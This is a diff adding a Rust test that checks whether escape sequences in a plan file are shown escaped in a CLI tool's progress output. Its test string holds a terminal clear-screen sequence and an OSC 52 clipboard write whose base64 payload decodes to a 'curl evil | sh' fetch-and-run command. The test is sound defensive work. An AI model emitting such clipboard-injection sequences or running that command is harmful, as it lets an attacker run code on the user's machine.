@@ -1190,3 +1190,33 @@ fn kill_9_at_seeded_random_moments_never_corrupts_the_vault_or_answers_a_key_twi
         assert!(!vault.join(".planvault/run.lock").exists());
     }
 }
+
+/// A question and ids written by the plan's author reach the terminal with
+/// their escape sequences (clear screen, a clipboard write) written out.
+#[test]
+fn progress_lines_never_carry_a_plans_escape_sequences() {
+    let dir = tempfile::tempdir().unwrap();
+    let hostile = "\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}";
+    std::fs::write(
+        dir.path().join("PLAN.md"),
+        format!("# Plan\n\n- [ ] Approve the launch {hostile} @human\n"),
+    )
+    .unwrap();
+    let stub = Stub::start(
+        Script {
+            replies: vec![],
+            default: None,
+        },
+        0,
+        None,
+    )
+    .unwrap();
+    let out = plan_md_run(dir.path(), &stub, &[]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(4), "awaiting a person: {stderr}");
+    assert!(!stderr.contains(['\u{1b}', '\u{7}']), "{stderr:?}");
+    assert!(
+        stderr.contains("\\u{1b}[2J\\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\\u{7}"),
+        "the question is shown, escaped: {stderr}"
+    );
+}
